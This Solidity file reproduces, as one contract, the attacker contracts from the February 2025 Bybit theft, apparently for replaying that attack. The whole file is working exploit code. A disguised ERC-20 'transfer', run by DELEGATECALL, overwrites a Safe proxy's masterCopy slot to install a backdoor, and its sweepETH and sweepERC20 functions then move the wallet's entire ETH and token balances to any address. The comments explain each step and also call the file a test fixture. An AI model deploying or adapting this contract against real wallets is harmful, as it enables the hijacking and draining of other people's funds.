// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.30;

interface IERC20Like {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// @title Trojan: the two attacker contracts of the February 2025 Bybit
/// theft in one, for replaying the attack against a real node.
/// @notice The signers approved a DELEGATECALL from their Safe to this
/// contract with calldata transfer(backdoor, 0). Run by DELEGATECALL, the
/// "transfer" writes its first argument into the caller's storage slot 0,
/// which in a Safe proxy is the masterCopy (singleton): from then on every
/// call to the proxy runs the backdoor's code in the Safe's context. It
/// emits no event, like the original. sweepETH and sweepERC20 are the
/// backdoor's functions: called through the hijacked proxy, they send the
/// Safe's whole balance to the given address. There is no access control:
/// this is a test fixture, not a weapon.
contract Trojan {
    /// @dev Slot 0: a Safe proxy's masterCopy when run by DELEGATECALL.
    address private slot0;

    /// @notice Looks like ERC-20 transfer; stores `to` in slot 0.
    function transfer(address to, uint256) external returns (bool) {
        slot0 = to;
        return true;
    }

    /// @notice Sends this account's whole ETH balance to `to`.
    function sweepETH(address to) external {
        (bool ok, ) = payable(to).call{value: address(this).balance}("");
        require(ok, "Trojan: ETH transfer failed");
    }

    /// @notice Sends this account's whole balance of `token` to `to`.
    function sweepERC20(address token, address to) external {
        uint256 amount = IERC20Like(token).balanceOf(address(this));
        require(IERC20Like(token).transfer(to, amount), "Trojan: token transfer failed");
    }

    /// @dev Accepts ETH sent to a hijacked proxy.
    receive() external payable {}
}
